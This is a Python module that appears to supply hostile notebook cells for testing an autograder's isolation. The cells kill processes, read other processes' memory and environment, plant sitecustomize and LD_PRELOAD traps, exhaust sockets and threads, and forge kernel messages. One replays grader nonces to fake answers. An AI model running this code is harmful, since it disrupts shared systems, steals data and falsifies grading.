"""Attacks on other submissions, and on the line between a kernel and the grader."""

#: Number, name, what it does, the cell, and whether it stands before the answers or after them.
CELLS: tuple[tuple[int, str, str, str, bool], ...] = (
    (26, "signals", "sends signals to all that it can name", """
import os, signal
own = {os.getpid(), os.getppid(), 0}
for pid in [*range(1, 400), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid not in own:
                os.kill(pid, number)
        except OSError:
            pass
""", True),
    (26, "read", "reads what others left: sockets, connection files, scratch, memory", """
import glob, os
found = [path for place in ("/kernels", "/tmp", "/dev/shm", "/scratch", "/var/tmp", "/run")
         for path in glob.glob(place + "/**", recursive=True) if os.path.isfile(path)]
for pid in os.listdir("/proc"):
    for name in ("environ", "mem", "maps", "root/kernel/c.json", "cwd/c.json"):
        try:
            found += [open(f"/proc/{pid}/{name}", "rb").read(100) for _ in "1" if pid.isdigit()]
        except OSError:
            pass
os.write(2, repr(found).encode())
""", True),
    (26, "leave", "leaves patched modules, variables, files, memory, sockets for the next", """
import builtins, os, random, signal, socket, sys
import numpy as np
import autograder.runner.inside_kernel as door
for module in list(sys.modules.values()):
    for name in ("allclose", "zeros", "array", "pad", "maximum", "ask", "encode", "plain"):
        if hasattr(module, name):
            setattr(module, name, None)
os.environ.update(PYTHONPATH="/tmp", NBGRADER_EXECUTION="", LD_PRELOAD="/tmp/x.so")
os.umask(0o777)
for place in ("/tmp", "/dev/shm", "/scratch", "/kernel", "/kernels", "/packages"):
    for name in ("numpy.py", "sitecustomize.py", "x.so", "c.json"):
        try:
            open(f"{place}/{name}", "w").write("raise SystemExit")
        except OSError:
            pass
for address in ("\\0kernel", "/kernel/c-ipc-9"):
    socket.socket(socket.AF_UNIX).bind(address)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
random.seed(0); np.random.seed(0)
""", True),
    (26, "parent", "looks for the process that starts kernels, and writes to all that is open", """
import os, socket
for number in range(3, 256):
    for action in (
        lambda: os.write(number, b"gone" * 64),
        lambda: socket.socket(fileno=os.dup(number)).sendmsg(
            [b'{"place": "..", "connection_file": "c.json"}']
        ),
    ):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith(("/", "pipe")):
                action()
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name, words in (("oom_score_adj", "1000"), ("comm", "x"), ("mem", "x"), ("fd/3", "x")):
            try:
                open(f"/proc/{pid}/{name}", "w").write(words)
            except (OSError, ValueError):
                pass
""", True),
    (26, "stderr", "floods the file that holds its last words", """
import os
try:
    for number in range(3, 256):
        if os.path.basename(os.path.realpath(f"/proc/self/fd/{number}")) == "stderr":
            while True:
                os.write(number, b"x" * 2**20)
except OSError:
    pass
""", True),
    (26, "sockets", "opens sockets, and leaves data in them that nobody reads", """
import socket, time
kept = []
while True:
    try:
        pair = socket.socketpair()
    except OSError:
        break
    kept.append(pair)
    pair[0].setblocking(False)
    try:
        while True:
            pair[0].send(bytes(2**16))
    except BlockingIOError:
        pass
time.sleep(2)
""", True),
    (26, "namespaces", "asks for namespaces, processes and threads until there are none", """
import ctypes, os, threading, time
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x40000000, 0x20000, 0x7E020000):
    for _ in range(1000):
        libc.unshare(flags)
try:
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
except RuntimeError:
    time.sleep(2)
""", True),
    (27, "frames", "sends frames that are no messages, on every line", """
import os, zmq
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")
lines = [kernel.shell_stream, kernel.control_stream, kernel.stdin_socket, kernel.iopub_socket]
who = kernel._parent_ident["shell"]
for line in lines:
    for frames in ([b""], [b"<IDS|MSG>"], [b"x"] * 50, [os.urandom(10**6)], [b"{}"] * 6,
                   [b"<IDS|MSG>", b"", b"[" * 10**5, b"{}", b"{}", b"null"]):
        try:
            line.send_multipart([*who, *frames], zmq.NOBLOCK)
        except Exception:
            pass
for kind in ("execute_reply", "status", "display_data", "shutdown_reply", "", "input_request"):
    for content in ({}, {"status": "ok"}, {"execution_state": "idle"}, {"data": {"x": [1]}}, []):
        for line in lines:
            try:
                session.send(line, kind, content, parent=parent, ident=who)
            except Exception:
                pass
""", True),
    (27, "nonce", "answers with the name of an earlier request, and for all cases", """
import json
import autograder.runner.answering_kernel as door
respond, nonces = door.respond, []
def again(namespace, text, send, *more):
    request = json.loads(text)
    for nonce in nonces:
        for index in range(-2, 60):
            answer = {"nonce": nonce, "index": index, "answer": {"returned": 1.0}}
            send([json.dumps(answer)])
    nonces.append(request["nonce"])
    respond(namespace, text, send, *more)
door.respond = again
""", True),
    (27, "lines", "puts its own sockets in place of the kernel's", """
import os, socket
for name in os.listdir("/kernel"):
    try:
        os.unlink(f"/kernel/{name}")
        socket.socket(socket.AF_UNIX).bind(f"/kernel/{name}")
        os.symlink("/run/dbus/system_bus_socket", f"/kernel/{name}-link")
    except OSError:
        pass
""", True),
)  # fmt: skip
